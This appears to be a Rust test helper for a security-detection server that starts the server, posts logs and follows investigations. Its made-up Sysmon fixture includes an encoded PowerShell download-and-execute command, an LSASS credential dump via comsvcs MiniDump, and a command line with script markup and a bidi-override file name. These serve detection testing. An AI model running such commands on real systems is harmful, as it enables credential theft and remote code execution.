//! A server of its own for each test: real store, real rules and playbooks of the repository, no model.

use crate::client::{get, post_json, post_logs};
use casemate_detect::Rules;
use casemate_investigate::{Investigator, Playbooks, Site};
use casemate_pipeline::Pipeline;
use casemate_server::Listener;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;
use tempfile::TempDir;
use tokio::sync::oneshot;

pub(crate) struct Running {
    pub(crate) addr: SocketAddr,
    pub(crate) pipeline: Arc<Pipeline>,
    stop: Option<oneshot::Sender<()>>,
    thread: Option<JoinHandle<()>>,
    dir: Option<TempDir>,
}

pub(crate) fn config(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../config").join(name)
}

pub(crate) fn start() -> Running {
    start_in(tempfile::tempdir().unwrap(), false)
}

/// Starts over a data directory, which investigates every alert by itself if `backlog`.
pub(crate) fn start_in(dir: TempDir, backlog: bool) -> Running {
    start_with(dir, |config| config.backlog = backlog)
}

/// Starts over a data directory, with a configuration that `change` changes.
pub(crate) fn start_with(dir: TempDir, change: impl FnOnce(&mut casemate_server::Config)) -> Running {
    let listener = Listener::bind(&"127.0.0.1:0".parse().unwrap(), None).unwrap();
    let addr = listener.local_addr().unwrap();
    let (rules, problems) = Rules::load(&[config("rules")]).unwrap();
    assert!(problems.is_empty());
    let pipeline = Arc::new(Pipeline::open(dir.path(), rules, None).unwrap());
    let playbooks = Playbooks::load(&config("playbooks")).unwrap();
    let investigator = Investigator::new(Arc::clone(&pipeline), None, playbooks, Site::default());
    let (stop, stopped) = oneshot::channel::<()>();
    let served = Arc::clone(&pipeline);
    let backups = dir.path().join("backups");
    let mut config = casemate_server::Config {
        grace: Duration::from_secs(5),
        models: vec![json!({ "role": "investigator", "name": "none", "sha256": "" })],
        backup_dir: Some(backups),
        ..casemate_server::Config::default()
    };
    change(&mut config);
    let thread = std::thread::spawn(move || {
        let runtime =
            tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        let until = async move {
            let _ = stopped.await;
        };
        runtime.block_on(casemate_server::serve_with(config, listener, served, investigator, until)).unwrap();
    });
    Running { addr, pipeline, stop: Some(stop), thread: Some(thread), dir: Some(dir) }
}

impl Running {
    /// Asks the server to end and waits until it has.
    pub(crate) fn end(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(thread) = self.thread.take() {
            thread.join().unwrap();
        }
    }

    /// Ends the server and starts another over the same data directory.
    pub(crate) fn restart(mut self, backlog: bool) -> Self {
        let dir = self.dir.take().unwrap();
        drop(self);
        start_in(dir, backlog)
    }

    /// Sends log lines; gives the answer.
    #[track_caller]
    pub(crate) fn ingest(&self, lines: &str) -> Value {
        post_logs(self.addr, "/v1/ingest/auto", lines.as_bytes()).expect_ok()
    }

    /// Sends the small intrusion; gives the number of its first alert.
    #[track_caller]
    pub(crate) fn ingest_intrusion(&self) -> u64 {
        let answer = self.ingest(INTRUSION);
        answer["alerts"][0]["id"].as_u64().unwrap_or_else(|| panic!("no alert was raised: {answer}"))
    }

    /// Asks for an investigation and follows it to its end; gives the stream.
    #[track_caller]
    pub(crate) fn investigate(&self, alert: u64) -> String {
        let answer = post_json(self.addr, "/v1/investigations", &json!({ "alert": alert }));
        assert_eq!(answer.status, 202, "{}", answer.text());
        let stream = get(self.addr, &format!("/v1/investigations/{alert}/stream"));
        assert_eq!(stream.header("content-type"), "text/event-stream");
        stream.text()
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        if !std::thread::panicking() {
            self.end();
        }
    }
}

/// Sysmon process launches: Word starts PowerShell with an encoded command, which dumps LSASS and looks around.
/// Written for this test; the names and addresses are made up. One command line carries markup and a bidi
/// override.
pub(crate) const INTRUSION: &str = concat!(
    r#"{"EventTime":"2026-03-02 09:14:01","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"ws5.example.local","UtcTime":"2026-03-02 09:14:01.120","Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA5AC8AYQAnACkA","ParentImage":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE","ParentCommandLine":"WINWORD.EXE /n invoice.docm","User":"EXAMPLE\\alice","ProcessId":"4120","ParentProcessId":"3988"}"#,
    "\n",
    r#"{"EventTime":"2026-03-02 09:14:09","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"ws5.example.local","UtcTime":"2026-03-02 09:14:09.481","Image":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","ParentImage":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","User":"EXAMPLE\\alice","ProcessId":"4200","ParentProcessId":"4120"}"#,
    "\n",
    r#"{"EventTime":"2026-03-02 09:15:30","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"ws5.example.local","UtcTime":"2026-03-02 09:15:30.007","Image":"C:\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full","ParentImage":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","User":"EXAMPLE\\alice","ProcessId":"4300","ParentProcessId":"4120"}"#,
    "\n",
    r#"{"EventTime":"2026-03-02 09:16:02","EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"ws5.example.local","UtcTime":"2026-03-02 09:16:02.900","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c echo <script>alert(1)</script> invoice\u202egpj.exe","ParentImage":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","User":"EXAMPLE\\alice","ProcessId":"4400","ParentProcessId":"4120"}"#,
    "\n",
);
